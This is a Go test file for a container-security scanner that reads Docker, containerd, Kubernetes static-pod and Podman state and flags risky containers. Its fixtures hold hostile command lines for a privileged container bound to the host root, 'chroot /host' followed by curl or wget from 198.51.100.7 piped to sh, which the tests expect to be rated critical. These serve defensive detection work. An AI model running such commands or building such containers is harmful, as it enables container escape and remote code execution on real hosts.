package linux

import (
	"context"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/fsread/dirfs"
	"github.com/snapscan/snapscan/report"
	"github.com/snapscan/snapscan/scanner/check"
	bolt "go.etcd.io/bbolt"
)

// copyFixture puts artifact/docker's fixture (written in moby's layout) into
// a container state directory named by its ID.
func copyFixture(t *testing.T, root, dataRoot, fixture string) string {
	t.Helper()
	src := filepath.Join("..", "..", "artifact", "docker", "testdata", fixture)
	cfg, err := os.ReadFile(filepath.Join(src, "config.v2.json"))
	if err != nil {
		t.Fatal(err)
	}
	id := string(cfg[strings.Index(string(cfg), `"ID":"`)+6:][:64])
	dir := filepath.Join(root, dataRoot, "containers", id)
	os.MkdirAll(dir, 0o755)
	os.WriteFile(filepath.Join(dir, "config.v2.json"), cfg, 0o644)
	host, _ := os.ReadFile(filepath.Join(src, "hostconfig.json"))
	os.WriteFile(filepath.Join(dir, "hostconfig.json"), host, 0o644)
	return id
}

func runContainers(t *testing.T, root string) *sink {
	t.Helper()
	fsys, err := dirfs.New(root)
	if err != nil {
		t.Fatal(err)
	}
	s := &sink{}
	if err := (Containers{}).Run(context.Background(), &check.Target{FS: fsys, Volume: "test@1", OS: "linux"}, s); err != nil {
		t.Fatal(err)
	}
	return s
}

// The miner container (privileged, / bound rw, restart always, chroot /host
// and a download in its command) is critical and names its layer; nginx and
// node-exporter are inventoried with their settings and stay below medium.
func TestContainersDocker(t *testing.T) {
	root := t.TempDir()
	nginx := copyFixture(t, root, "var/lib/docker", "nginx")
	nodeexp := copyFixture(t, root, "var/lib/docker", "node-exporter")
	miner := copyFixture(t, root, "var/lib/docker", "miner")
	mountID := "9d3b6f0a1c2e4f6a8b0c2d4e6f8a0b1c3d5e7f9a1b3c5d7e9f0a2b4c6d8e0f1a"
	mdir := filepath.Join(root, "var/lib/docker/image/overlay2/layerdb/mounts", miner)
	os.MkdirAll(mdir, 0o755)
	os.WriteFile(filepath.Join(mdir, "mount-id"), []byte(mountID), 0o644)
	// Rootless Docker of a user: the same files below ~/.local/share/docker.
	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
	os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"), 0o644)
	rootless := copyFixture(t, root, "home/alice/.local/share/docker", "miner")
	// Bad input: a broken config beside them, and a 1 GiB sparse one.
	bad := filepath.Join(root, "var/lib/docker/containers/bad")
	os.MkdirAll(bad, 0o755)
	os.WriteFile(filepath.Join(bad, "config.v2.json"), []byte(`{"ID":`), 0o644)
	huge := filepath.Join(root, "var/lib/docker/containers/huge")
	os.MkdirAll(huge, 0o755)
	f, _ := os.Create(filepath.Join(huge, "config.v2.json"))
	f.Truncate(1 << 30)
	f.Close()

	s := runContainers(t, root)
	byPath := map[string]report.Finding{}
	for _, f := range s.findings {
		byPath[f.Evidence.Path] = f
	}
	cfgOf := func(dataRoot, id string) string { return "/" + dataRoot + "/containers/" + id + "/config.v2.json" }
	m := byPath[cfgOf("var/lib/docker", miner)]
	if m.Rule != "container.host-root-miner" || m.Severity != report.Critical || m.Technique != "T1611" ||
		!strings.Contains(m.Description, "/var/lib/docker/overlay2/"+mountID+"/diff") || !strings.Contains(m.Evidence.Match, "chroot /host") {
		t.Errorf("miner: %s %s %q", m.Rule, m.Severity, m.Description)
	}
	if f := byPath[cfgOf("home/alice/.local/share/docker", rootless)]; f.Severity != report.Critical {
		t.Errorf("rootless miner: %s %s", f.Rule, f.Severity)
	}
	for _, id := range []string{nginx, nodeexp} {
		if f, ok := byPath[cfgOf("var/lib/docker", id)]; ok && f.Severity >= report.Medium {
			t.Errorf("benign container %s: %s %s", id, f.Rule, f.Severity)
		}
	}
	inv := map[string]report.InventoryItem{}
	for _, i := range s.inv {
		if i.Kind == "container" {
			inv[i.Fields["name"]] = i
		}
	}
	if ne := inv["node-exporter"]; !strings.Contains(ne.Fields["risks"], "bind /:/host (ro)") || !strings.Contains(ne.Fields["risks"], "host PID namespace") ||
		ne.Fields["restart"] != "unless-stopped" || ne.Fields["image"] != "quay.io/prometheus/node-exporter:latest" {
		t.Errorf("node-exporter inventory %+v", ne.Fields)
	}
	if w := inv["web"]; w.Fields["mounts"] != "/srv/www:/usr/share/nginx/html:ro" || w.Fields["risks"] != "" {
		t.Errorf("nginx inventory %+v", w.Fields)
	}
	if k := inv["kube-sync"]; k.Fields["layer"] == "" || k.Fields["privileged"] != "true" {
		t.Errorf("miner inventory %+v", k.Fields)
	}
	var badErr, hugeErr bool
	for _, e := range s.errs {
		badErr = badErr || strings.Contains(e, "containers/bad/config.v2.json")
		hugeErr = hugeErr || strings.Contains(e, "containers/huge/config.v2.json") && strings.Contains(e, "larger than")
	}
	if !badErr || !hugeErr || len(s.errs) != 2 {
		t.Errorf("errors %v", s.errs)
	}
}

// The rules one at a time, each with a benign twin.
func TestContainerRules(t *testing.T) {
	base := `{"ID":"%s","Name":"/%s","Driver":"overlay2","Path":"%s","Args":[],"Config":{"Image":"%s"},"State":{"Running":true}}`
	cases := []struct {
		name, image, cmd, host, rule string
		sev                          report.Severity
	}{
		{"xmr", "xmrig/xmrig:latest", "xmrig", `{"RestartPolicy":{"Name":"always"}}`, "container.miner", report.High},
		{"img-twin", "nginx:latest", "nginx", `{"RestartPolicy":{"Name":"always"}}`, "", 0},
		{"priv-root", "alpine", "sleep", `{"Privileged":true,"Binds":["/:/host"],"RestartPolicy":{"Name":"always"}}`, "container.host-root-autostart", report.High},
		{"priv-root-norestart", "alpine", "sleep", `{"Privileged":true,"Binds":["/:/host"],"RestartPolicy":{"Name":"no"}}`, "container.risky", report.Low},
		{"sock", "portainer/portainer-ce", "/portainer", `{"Binds":["/var/run/docker.sock:/var/run/docker.sock"],"RestartPolicy":{"Name":"always"}}`, "container.risky", report.Low},
		{"etc-ro", "fluentd", "fluentd", `{"Binds":["/etc:/host/etc:ro"],"RestartPolicy":{"Name":"always"}}`, "", 0},
	}
	root := t.TempDir()
	for i, c := range cases {
		id := strings.Repeat(string(rune('a'+i)), 64)
		dir := filepath.Join(root, "var/lib/docker/containers", id)
		os.MkdirAll(dir, 0o755)
		os.WriteFile(filepath.Join(dir, "config.v2.json"), []byte(jsonf(base, id, c.name, c.cmd, c.image)), 0o644)
		os.WriteFile(filepath.Join(dir, "hostconfig.json"), []byte(c.host), 0o644)
	}
	s := runContainers(t, root)
	got := map[string]report.Finding{}
	for _, f := range s.findings {
		got[f.Evidence.Path] = f
	}
	for i, c := range cases {
		id := strings.Repeat(string(rune('a'+i)), 64)
		f, ok := got["/var/lib/docker/containers/"+id+"/config.v2.json"]
		if c.rule == "" {
			if ok {
				t.Errorf("%s: unexpected %s %s", c.name, f.Rule, f.Severity)
			}
			continue
		}
		if f.Rule != c.rule || f.Severity != c.sev {
			t.Errorf("%s: %s %s, want %s %s", c.name, f.Rule, f.Severity, c.rule, c.sev)
		}
	}
	if len(s.errs) != 0 {
		t.Errorf("errors %v", s.errs)
	}
}

func jsonf(format string, args ...string) string {
	for _, a := range args {
		format = strings.Replace(format, "%s", a, 1)
	}
	return format
}

// containerd's meta.db, written with the bbolt library in containerd's
// layout: a privileged CRI container with / bound rw running a miner, beside
// nginx with a read-only content bind; and a truncated copy.
func TestContainersContainerd(t *testing.T) {
	root := t.TempDir()
	dir := filepath.Join(root, "var/lib/containerd/io.containerd.metadata.v1.bolt")
	os.MkdirAll(dir, 0o755)
	db, err := bolt.Open(filepath.Join(dir, "meta.db"), 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	anySpec := func(js string) []byte {
		b := []byte{0x0a, 5}
		b = append(b, "types"...)
		b = append(b, 0x12)
		b = binary.AppendUvarint(b, uint64(len(js)))
		return append(b, js...)
	}
	specs := map[string][2]string{
		"miner": {"docker.io/library/alpine:latest", `{"process":{"args":["chroot","/host","sh","-c","curl -fsSL http://198.51.100.7/x.sh | sh"],"capabilities":{"bounding":["CAP_SYS_ADMIN"]}},
"mounts":[{"destination":"/host","type":"bind","source":"/","options":["rbind","rw"]}],"linux":{"namespaces":[{"type":"mount"}]}}`},
		"web": {"docker.io/library/nginx:1.25", `{"process":{"args":["nginx","-g","daemon off;"],"capabilities":{"bounding":["CAP_CHOWN"]}},
"mounts":[{"destination":"/usr/share/nginx/html","type":"bind","source":"/srv/www","options":["rbind","ro"]}],"linux":{"namespaces":[{"type":"pid"},{"type":"network"},{"type":"mount"}]}}`},
	}
	err = db.Update(func(tx *bolt.Tx) error {
		v1, _ := tx.CreateBucket([]byte("v1"))
		ns, _ := v1.CreateBucket([]byte("k8s.io"))
		cb, _ := ns.CreateBucket([]byte("containers"))
		for id, s := range specs {
			b, _ := cb.CreateBucket([]byte(id))
			b.Put([]byte("image"), []byte(s[0]))
			b.Put([]byte("spec"), anySpec(s[1]))
			lb, _ := b.CreateBucket([]byte("labels"))
			lb.Put([]byte("io.kubernetes.container.name"), []byte(id))
		}
		return nil
	})
	db.Close()
	if err != nil {
		t.Fatal(err)
	}
	s := runContainers(t, root)
	byName := map[string]report.Finding{}
	for _, f := range s.findings {
		byName[strings.SplitN(f.Evidence.Match, " ", 2)[0]] = f
	}
	if f := byName["miner"]; f.Rule != "container.host-root-miner" || f.Severity != report.Critical || f.Evidence.Path != "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db" {
		t.Errorf("containerd miner: %s %s %+v", f.Rule, f.Severity, f.Evidence)
	}
	if f, ok := byName["web"]; ok {
		t.Errorf("containerd nginx: %s %s", f.Rule, f.Severity)
	}
	if len(s.errs) != 0 || len(s.inv) != 2 {
		t.Errorf("errors %v, inventory %d", s.errs, len(s.inv))
	}
	// Truncated: an error naming meta.db, no panic, Docker state still read.
	p := filepath.Join(dir, "meta.db")
	data, _ := os.ReadFile(p)
	os.WriteFile(p, data[:len(data)/2], 0o600)
	copyFixture(t, root, "var/lib/docker", "nginx")
	s = runContainers(t, root)
	if len(s.errs) != 1 || !strings.Contains(s.errs[0], "meta.db") || len(s.inv) != 1 {
		t.Errorf("truncated meta.db: errors %v, inventory %d", s.errs, len(s.inv))
	}
}

// Static pods: kubeadm's kube-apiserver (host network, read-only cert
// binds) stays below medium; a privileged pod with / bound and a download
// in its command is critical; a staticPodPath elsewhere is followed.
func TestContainersStaticPods(t *testing.T) {
	root := t.TempDir()
	src := filepath.Join("..", "..", "artifact", "k8s", "testdata")
	api, _ := os.ReadFile(filepath.Join(src, "kube-apiserver.yaml"))
	bad, _ := os.ReadFile(filepath.Join(src, "kube-sync.yaml"))
	for p, data := range map[string][]byte{
		"etc/kubernetes/manifests/kube-apiserver.yaml": api,
		"etc/kubernetes/manifests/.swp":                bad, // the kubelet skips dot files
		"etc/kubernetes/manifests/broken.yaml":         []byte("kind: Pod\nspec: [\n"),
		"var/lib/kubelet/config.yaml":                  []byte("kind: KubeletConfiguration\nstaticPodPath: /opt/pods\n"),
		"opt/pods/kube-sync.yaml":                      bad,
	} {
		os.MkdirAll(filepath.Dir(filepath.Join(root, p)), 0o755)
		os.WriteFile(filepath.Join(root, p), data, 0o644)
	}
	s := runContainers(t, root)
	if len(s.findings) != 1 || s.findings[0].Rule != "container.host-root-miner" || s.findings[0].Evidence.Path != "/opt/pods/kube-sync.yaml" {
		for _, f := range s.findings {
			t.Errorf("finding %s %s %s", f.Rule, f.Severity, f.Evidence.Path)
		}
	}
	if len(s.inv) != 2 || len(s.errs) != 1 || !strings.Contains(s.errs[0], "broken.yaml") {
		t.Errorf("inventory %d, errors %v", len(s.inv), s.errs)
	}
}

// Podman (containers/storage): a rootless container whose OCI spec binds /
// read-write with all capabilities and runs a miner is critical and names
// its layer; a rootful nginx is inventoried only.
func TestContainersPodman(t *testing.T) {
	root := t.TempDir()
	write := func(p, c string) {
		os.MkdirAll(filepath.Dir(filepath.Join(root, p)), 0o755)
		os.WriteFile(filepath.Join(root, p), []byte(c), 0o644)
	}
	write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n")
	entry := func(id, name, image, layer string) string {
		return `[{"id":"` + id + `","names":["` + name + `"],"image":"0123","layer":"` + layer + `","metadata":"{\"image-name\":\"` + image + `\",\"name\":\"` + name + `\"}","created":"2024-05-02T10:11:11Z"}]`
	}
	write("home/bob/.local/share/containers/storage/overlay-containers/containers.json", entry("m1", "sync", "docker.io/library/alpine:latest", "l1"))
	write("home/bob/.local/share/containers/storage/overlay-containers/m1/userdata/config.json",
		`{"process":{"args":["chroot","/host","/bin/sh","-c","wget -qO- http://198.51.100.7/m.sh | sh"],"capabilities":{"bounding":["CAP_SYS_ADMIN","CAP_NET_ADMIN"]}},"mounts":[{"destination":"/host","type":"bind","source":"/","options":["rbind"]}],"linux":{"namespaces":[{"type":"pid"},{"type":"mount"}]}}`)
	write("var/lib/containers/storage/overlay-containers/containers.json", entry("n1", "web", "docker.io/library/nginx:latest", "l2"))
	write("var/lib/containers/storage/overlay-containers/n1/userdata/config.json",
		`{"process":{"args":["nginx","-g","daemon off;"]},"mounts":[{"destination":"/usr/share/nginx/html","type":"bind","source":"/srv/www","options":["rbind","ro"]}],"linux":{"namespaces":[{"type":"pid"},{"type":"network"},{"type":"mount"}]}}`)
	// libpod's state: the restart policy (bbolt, libpod's layout).
	os.MkdirAll(filepath.Join(root, "home/bob/.local/share/containers/storage/libpod"), 0o755)
	db, err := bolt.Open(filepath.Join(root, "home/bob/.local/share/containers/storage/libpod/bolt_state.db"), 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	db.Update(func(tx *bolt.Tx) error {
		ctr, _ := tx.CreateBucket([]byte("ctr"))
		b, _ := ctr.CreateBucket([]byte("m1"))
		return b.Put([]byte("config"), []byte(`{"id":"m1","restart_policy":"always"}`))
	})
	db.Close()
	s := runContainers(t, root)
	for _, i := range s.inv {
		if i.Fields["id"] == "m1" && i.Fields["restart"] != "always" {
			t.Errorf("restart policy of m1: %q", i.Fields["restart"])
		}
	}
	if len(s.findings) != 1 || s.findings[0].Rule != "container.host-root-miner" ||
		!strings.Contains(s.findings[0].Description, "/home/bob/.local/share/containers/storage/overlay/l1/diff") {
		for _, f := range s.findings {
			t.Errorf("%s %s %s %q", f.Rule, f.Severity, f.Evidence.Path, f.Description)
		}
	}
	if len(s.inv) != 2 || len(s.errs) != 0 {
		t.Errorf("inventory %d, errors %v", len(s.inv), s.errs)
	}
}
